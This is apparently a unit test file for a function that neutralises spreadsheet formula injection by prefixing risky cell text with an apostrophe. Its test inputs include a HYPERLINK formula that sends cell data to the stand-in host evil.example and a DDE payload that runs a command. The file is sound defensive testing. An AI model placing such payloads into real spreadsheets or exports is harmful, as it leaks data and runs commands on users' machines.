import { neutraliseFormula } from './formulaCells'

describe('neutraliseFormula', () => {
  it('puts an apostrophe before what a spreadsheet would run', () => {
    for (const text of [
      '=HYPERLINK("https://evil.example/?q="&A1, "Скидка")',
      "=cmd|' /C calc'!A0",
      '+7 701 234 56 78',
      '-2+3',
      '@SUM(A1:A2)',
      '\t=1+1',
      '\r=1+1',
    ]) {
      expect(neutraliseFormula(text)).toBe(`'${text}`)
    }
  })

  it('leaves everything else as it is', () => {
    for (const text of ['NS-100', 'Насос = хороший', '', ' =1', '12', "'=already"]) {
      expect(neutraliseFormula(text)).toBe(text)
    }
  })
})
